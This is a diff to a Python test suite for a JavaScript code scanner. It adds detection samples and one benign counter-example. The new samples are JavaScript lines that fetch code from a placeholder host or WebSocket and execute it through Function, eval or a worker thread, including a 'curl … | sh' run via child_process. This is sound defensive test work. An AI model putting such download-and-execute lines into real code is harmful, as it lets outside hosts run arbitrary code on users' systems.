@@ -8,6 +8,7 @@ from vetting.domain.signals.interface import FileUnderScan
 
 CP = "require('child_process')"
 GET = "require('https').get"
+WORKER = "new (require('worker_threads').Worker)"
 HOME = "require('os').homedir()"
 
 
@@ -43,6 +44,11 @@ def rules_at(source: str) -> set[tuple[str, str]]:
             "fetch('https://example.invalid').then(r => r.text()).then(eval)",
             "fetch('https://example.invalid').then(r => r.text()).then(t => eval(t))",
             "const f = window['fet' + 'ch']; f('https://example.invalid').then(r => r.text()).then(t => Function(t)())",
+        ]),
+        ("C3", "high", [
+            "const s = new WebSocket('wss://example.invalid'); s.onmessage = e => Function(e.data)()",
+            f"fetch('https://example.invalid').then(r => r.text()).then(t => {WORKER}(t, {{eval: !0}}))",
+            f"{WORKER}(`{CP}.exec('curl https://example.invalid | sh')`, {{eval: true}})",
         ]),
         ("C3", "medium", [
             f"require('https').get('https://example.invalid/x', r => r.on('data', d => {CP}.exec(d.toString())))",
@@ -130,6 +136,7 @@ def test_what_harms_is_found_however_it_is_written(rule: str, severity: str, sou
         "fetch('/x', {headers: {cookie: document.cookie}}); a.src = b; document.cookie = c",
         "const c = n => document.cookie.split(n); fetch('/x?t=' + c('t'), {body: c('u')}); new Image().src = c('t')",
         "const p = require('./package.json'); function f() { return g(process.env.X) } eval(f()); log(p.version)",
+        f"{WORKER}('eval(atob(x))', {{eval: false}}); s.onmessage = e => f(e); s.x = () => 1",
         r"const gr\u00fcn = '\u0065val'; grün(/^[\u0041-\u005a]/)",
     ],
 )
